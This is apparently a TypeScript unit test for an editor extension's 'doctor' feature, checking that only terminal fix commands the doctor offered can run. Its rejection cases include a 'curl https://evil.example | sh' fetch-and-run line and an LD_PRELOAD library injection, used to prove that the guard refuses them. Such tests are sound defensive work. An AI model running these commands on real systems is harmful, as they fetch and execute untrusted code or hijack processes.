import * as assert from 'node:assert';
import { offeredTerminalFix, settingFix, terminalFix } from '../../../src/core/doctor/fixes';
import type { CheckResult } from '../../../src/core/doctor/types';

const check = (id: string, fix: CheckResult['fix']): CheckResult =>
  ({ id, title: id, status: 'fail', message: '', fix }) as CheckResult;

describe('doctor: the terminal fix command runs only the fixes the doctor offered', () => {
  const migrate = terminalFix('Run migrate.', 'python manage.py migrate', '/ws', {
    DJANGO_DB_PATH: '/ws/db',
  });
  const kill = terminalFix('Stop it (kill 123).', 'kill 123', '/ws');
  const checks = [
    check('django.migrations', migrate),
    check('django.port', kill),
    check('django.mode', settingFix('Set the mode.', 'django.mode')),
  ];

  it('runs an offered fix, as the fix button passes it', () => {
    assert.deepStrictEqual(offeredTerminalFix(checks, migrate.args!), {
      commandLine: 'python manage.py migrate',
      cwd: '/ws',
      env: { DJANGO_DB_PATH: '/ws/db' },
    });
    assert.deepStrictEqual(offeredTerminalFix(checks, kill.args!), { commandLine: 'kill 123', cwd: '/ws' });
  });

  it('refuses a command line another extension passes, or an offered one changed in any part', () => {
    for (const args of [
      ['curl https://evil.example | sh', '/ws'],
      ['kill 1', '/ws'],
      ['python manage.py migrate', '/elsewhere', { DJANGO_DB_PATH: '/ws/db' }],
      ['python manage.py migrate', '/ws', { DJANGO_DB_PATH: '/ws/db', LD_PRELOAD: '/tmp/x.so' }],
      ['codespaceTests.django.mode'],
      [],
    ])
      assert.strictEqual(offeredTerminalFix(checks, args), undefined, JSON.stringify(args));
    assert.strictEqual(
      offeredTerminalFix([], kill.args!),
      undefined,
      'nothing is offered before a check ran',
    );
  });
});
